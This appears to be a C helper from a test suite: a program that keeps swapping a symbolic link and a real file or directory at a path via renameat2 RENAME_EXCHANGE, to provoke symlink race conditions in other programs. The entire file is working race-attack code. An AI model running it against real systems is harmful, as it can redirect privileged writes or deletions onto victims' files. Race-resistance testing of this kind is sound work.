// An attacker: puts a symbolic link in the place of a file or directory and takes it away again, as fast as it can,
// until it is killed. What other programs have removed or written over is made anew.
//
//     swap KIND PLACE BESIDE TARGET     KIND: d for a directory, f for a file; BESIDE: where the other of the two lies
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static char kind;
static const char *target;

static int is_link(const char *path) {
  struct stat found;
  return lstat(path, &found) == 0 && S_ISLNK(found.st_mode);
}

static int is_there(const char *path) {
  struct stat found;
  return lstat(path, &found) == 0;
}

static void make(const char *path) {
  if (kind == 'd') {
    mkdir(path, 0700);
  } else {
    int file = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (file >= 0) close(file);
  }
}

int main(int argc, char **argv) {
  if (argc != 5) return 64;
  kind = argv[1][0];
  target = argv[4];
  const char *place = argv[2], *beside = argv[3];
  puts("ready");
  fflush(stdout);
  for (;;) {
    // Both are needed: one link, and one that is none.
    if (!is_link(place) && !is_link(beside)) {
      unlink(beside);
      symlink(target, beside);
    }
    if (!is_there(place)) is_link(beside) ? make(place) : (void)symlink(target, place);
    if (!is_there(beside)) is_link(place) ? make(beside) : (void)symlink(target, beside);
    syscall(SYS_renameat2, AT_FDCWD, place, AT_FDCWD, beside, RENAME_EXCHANGE);
  }
}
